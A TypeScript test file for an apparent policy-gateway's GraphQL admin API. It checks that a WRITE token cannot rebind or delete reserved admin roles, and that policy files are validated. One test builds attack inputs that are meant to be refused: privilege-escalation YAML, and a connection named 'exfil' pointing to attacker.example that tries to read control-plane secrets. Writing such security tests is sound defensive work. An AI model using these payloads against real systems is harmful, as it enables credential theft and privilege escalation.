import { randomBytes } from "node:crypto";
import { withTestDatabases } from "../../test/helpers/databases.js";
import { startGraphqlHarness, type GqlResponse, type GraphqlHarness } from "../graphql/testing/harness.js";

/**
 * The policy file as an attacker holding a WRITE token uses it: every write goes through
 * the admin services, so it can do nothing a mutation could not. Effects are read from the
 * database (bindings, connections, audit rows, snapshot version), not only from the answer.
 */
const BOOTSTRAP = randomBytes(32).toString("hex");
const ISSUER = "https://idp.example";
const APPLY = `mutation($y: String!, $d: Boolean) { applyPolicyFile(yaml: $y, dryRun: $d) { changes { kind name action } snapshotVersion dryRun } }`;

const codes = (r: GqlResponse) => (r.errors ?? []).map((e) => e.extensions?.code);

withTestDatabases((db) => {
  let api: GraphqlHarness;
  let writeToken: string;
  const prisma = () => api.store.prisma;
  const state = async () => ({
    version: (await prisma().snapshotVersion.findUnique({ where: { id: 1 } }))!.version,
    audit: await prisma().adminAudit.count(),
    bindings: (await prisma().roleBinding.findMany({ include: { role: true }, orderBy: { id: "asc" } })).map((b) => `${b.role.name}:${b.issuer}:${b.group}:${b.identityId}`),
    roles: (await prisma().role.findMany({ orderBy: { name: "asc" } })).map((r) => r.name),
    connections: (await prisma().connection.findMany({ orderBy: { name: "asc" } })).map((c) => c.name),
  });
  const apply = (yaml: string, token = BOOTSTRAP, dryRun = false) => api.gql<Record<string, any>>(APPLY, { y: yaml, d: dryRun }, token);

  beforeAll(async () => {
    api = await startGraphqlHarness({ databaseUrl: db.url, bootstrapToken: BOOTSTRAP, credentialEnvAllow: ["LEGACY_UPSTREAM_KEY"] });
    const seeded = await apply(`
roles:
  - name: cp-admin
    bindings: [{ issuer: ${ISSUER}, group: admins }]
  - name: cp-approver
    bindings: [{ issuer: ${ISSUER}, group: approvers }]
  - name: developers
`);
    expect(seeded.errors).toBeUndefined();
    const minted = await api.gql<Record<string, any>>(`mutation { createApiToken(input: { name: "ci", scopes: [WRITE] }) { secret } }`, {}, BOOTSTRAP);
    writeToken = minted.data!.createApiToken.secret;
  });
  afterAll(async () => {
    await api?.stop();
  });

  test("a WRITE token cannot bind, rebind, rename or delete a reserved role through the file or the mutations", async () => {
    const before = await state();
    const attempts = [
      // The reported escalation: replace cp-admin's bindings with the attacker's group.
      `roles: [{ name: cp-admin, bindings: [{ issuer: ${ISSUER}, group: mine }] }]`,
      // Unbinding the approvers (lock-out) is refused just the same.
      `roles: [{ name: cp-approver, bindings: [] }]`,
      `roles: [{ name: cp-auditor, bindings: [{ issuer: ${ISSUER}, subject: me }] }]`,
      `roles: [{ name: cp-admin, description: mine, bindings: [{ issuer: ${ISSUER}, group: admins }] }]`,
    ];
    for (const yaml of attempts) {
      for (const dryRun of [true, false]) expect(codes(await apply(yaml, writeToken, dryRun))).toEqual(["FORBIDDEN"]);
    }
    const roles = await prisma().role.findMany({ where: { name: { in: ["cp-admin", "cp-approver", "developers"] } } });
    const id = (name: string) => roles.find((r) => r.name === name)!.id;
    const adminBinding = (await prisma().roleBinding.findFirst({ where: { roleId: id("cp-admin") } }))!;
    const mutations: Array<[string, Record<string, unknown>]> = [
      [`mutation($id: ID!) { deleteRole(id: $id) { id } }`, { id: id("cp-approver") }],
      [`mutation($id: ID!) { deleteRole(id: $id) { id } }`, { id: id("cp-admin") }],
      [`mutation($id: ID!) { updateRole(id: $id, input: { name: "renamed" }) { role { id } } }`, { id: id("cp-admin") }],
      [`mutation($id: ID!) { updateRole(id: $id, input: { name: "cp-admin-2", description: "x" }) { role { id } } }`, { id: id("cp-approver") }],
      [`mutation($id: ID!) { updateRole(id: $id, input: { name: "cp-auditor" }) { role { id } } }`, { id: id("developers") }],
      [`mutation($id: ID!) { deleteRoleBinding(id: $id) { id } }`, { id: adminBinding.id }],
      [`mutation { bindRoleToGroup(input: { role: "cp-admin", issuer: "${ISSUER}", group: "mine" }) { roleBinding { id } } }`, {}],
    ];
    for (const [query, variables] of mutations) expect(codes(await api.gql(query, variables, writeToken))).toEqual(["FORBIDDEN"]);
    expect(await state()).toEqual(before);
  });

  test("reserved roles cannot be deleted, even by an admin; an admin's file changes reserved bindings as a visible diff", async () => {
    const approver = (await prisma().role.findUnique({ where: { name: "cp-approver" } }))!;
    expect(codes(await api.gql(`mutation($id: ID!) { deleteRole(id: $id) { id } }`, { id: approver.id }, BOOTSTRAP))).toEqual(["FORBIDDEN"]);
    expect(await prisma().role.count({ where: { name: "cp-approver" } })).toBe(1);

    const yaml = `roles: [{ name: cp-approver, bindings: [{ issuer: ${ISSUER}, group: reviewers }] }]`;
    const before = await state();
    const dry = await apply(yaml, BOOTSTRAP, true);
    expect(dry.data!.applyPolicyFile.changes).toEqual([
      { kind: "role", name: "cp-approver", action: "unchanged" },
      { kind: "roleBinding", name: `cp-approver: group ${ISSUER} approvers`, action: "delete" },
      { kind: "roleBinding", name: `cp-approver: group ${ISSUER} reviewers`, action: "create" },
    ]);
    expect(await state()).toEqual(before);
    const real = await apply(yaml);
    expect(real.data!.applyPolicyFile.changes).toEqual(dry.data!.applyPolicyFile.changes);
    const bindings = await prisma().roleBinding.findMany({ where: { roleId: approver.id } });
    expect(bindings.map((b) => b.group)).toEqual(["reviewers"]);
    const after = await state();
    expect(after.version).toBe(before.version + 1n);
    expect(after.audit).toBe(before.audit + 2);
    // Re-applying changes nothing: no version, no audit row.
    const again = await apply(yaml);
    expect(again.data!.applyPolicyFile.changes.map((c: { action: string }) => c.action)).toEqual(["unchanged"]);
    expect(await state()).toEqual(after);
  });

  test("credentialEnv reads only AGENTGATE_UPSTREAM_* or allow-listed names, never the control plane's own secrets", async () => {
    process.env["AGENTGATE_ADMIN_BOOTSTRAP_TOKEN"] = BOOTSTRAP;
    process.env["AGENTGATE_SECRET_KEY"] = "c2VjcmV0LWtleS1vZi10aGUtY29udHJvbC1wbGFuZSE=";
    process.env["AGENTGATE_PROXY_TOKEN"] = "proxy-token-proxy-token";
    process.env["DATABASE_URL"] ??= db.url;
    process.env["AGENTGATE_UPSTREAM_MAIN"] = "upstream-key-1";
    process.env["LEGACY_UPSTREAM_KEY"] = "legacy-key-2";
    const before = await state();
    for (const name of ["AGENTGATE_ADMIN_BOOTSTRAP_TOKEN", "AGENTGATE_SECRET_KEY", "AGENTGATE_PROXY_TOKEN", "DATABASE_URL", "PATH", "HOME", "AGENTGATE_UPSTREAM_UNSET", "lower-case"]) {
      const res = await apply(`connections: [{ name: exfil, baseUrl: "https://attacker.example", credentialEnv: "${name}" }]`, writeToken);
      expect(codes(res)).toEqual(["BAD_USER_INPUT"]);
      expect(res.errors![0]!.extensions!.problems!.join("\n")).toContain(`connection exfil: credentialEnv`);
      // The answer never carries a value of the environment.
      expect(JSON.stringify(res)).not.toContain(BOOTSTRAP);
    }
    expect(await state()).toEqual(before);

    const ok = await apply(
      `connections:
  - { name: up-main, baseUrl: "https://lg.example", credentialEnv: AGENTGATE_UPSTREAM_MAIN }
  - { name: up-legacy, baseUrl: "https://lg2.example", credentialEnv: LEGACY_UPSTREAM_KEY }`,
      writeToken,
    );
    expect(ok.errors).toBeUndefined();
    const stored = await prisma().connection.findMany({ where: { name: { in: ["up-main", "up-legacy"] } }, orderBy: { name: "asc" } });
    expect(stored.map((c) => api.secrets.decrypt(c.credentialCiphertext!))).toEqual(["legacy-key-2", "upstream-key-1"]);
  });

  test("the file goes through the admin validators and defaults: every problem at once, nothing written", async () => {
    const before = await state();
    const res = await apply(
      `
identityProviders:
  - { issuer: "https://other-idp.example", audiences: [agentgate], clockToleranceSeconds: -5 }
maskingProfiles:
  - name: bad
    rules: [{ kind: no-such-kind, match: x }]
policies:
  - name: p-bad
    role: developers
    connection: up-main
    graphs: ["*"]
    operations: ["runs:wait"]
    limits: { requestsPerMinute: -1, costPerRun: { "*": -2 } }
    approval: { required: true, approverRoles: [], grantTtlSeconds: -60 }
  - name: p-unknown
    role: no-such-role
    connection: no-such-connection
    graphs: ["*"]
    operations: ["runs:wait"]
`,
      writeToken,
    );
    expect(codes(res)).toEqual(["BAD_USER_INPUT"]);
    const problems = res.errors![0]!.extensions!.problems!.join("\n");
    for (const expected of [
      "identityProvider https://other-idp.example",
      "maskingProfile bad: masking rule",
      "policy p-bad: limits.requestsPerMinute",
      "policy p-bad: limits.costPerRun",
      "policy p-bad: approval.approverRoles",
      "policy p-bad: approval.grantTtlSeconds",
      'policy p-unknown: policy: unknown role "no-such-role"',
      'policy p-unknown: policy: unknown connection "no-such-connection"',
    ]) {
      expect(problems).toContain(expected);
    }
    // Types are checked by the file's schema: a string budget and an unknown key are refused.
    const typed = await apply(`policies: [{ name: p, role: developers, connection: up-main, graphs: ["*"], operations: ["*"], limits: { costBudgetPerDay: "lots" }, extra: 1 }]`, writeToken);
    expect(codes(typed)).toEqual(["BAD_USER_INPUT"]);
    expect(typed.errors![0]!.extensions!.problems).toEqual(expect.arrayContaining([expect.stringContaining("policies[0].limits.costBudgetPerDay"), expect.stringContaining("policies[0]")]));
    expect(await state()).toEqual(before);

    // Same defaults as the mutation: a provider from the file and one from GraphQL are equal.
    expect((await apply(`identityProviders: [{ issuer: "https://file-idp.example", audiences: [agentgate] }]`, writeToken)).errors).toBeUndefined();
    const created = await api.gql(`mutation { createIdentityProvider(input: { issuer: "https://api-idp.example", audiences: ["agentgate"] }) { identityProvider { id } } }`, {}, writeToken);
    expect(created.errors).toBeUndefined();
    const rows = await prisma().identityProvider.findMany({ where: { issuer: { in: ["https://file-idp.example", "https://api-idp.example"] } } });
    const comparable = rows.map(({ id: _i, issuer: _s, createdAt: _c, updatedAt: _u, ...rest }) => rest);
    expect(comparable[0]).toEqual(comparable[1]);
  });
});
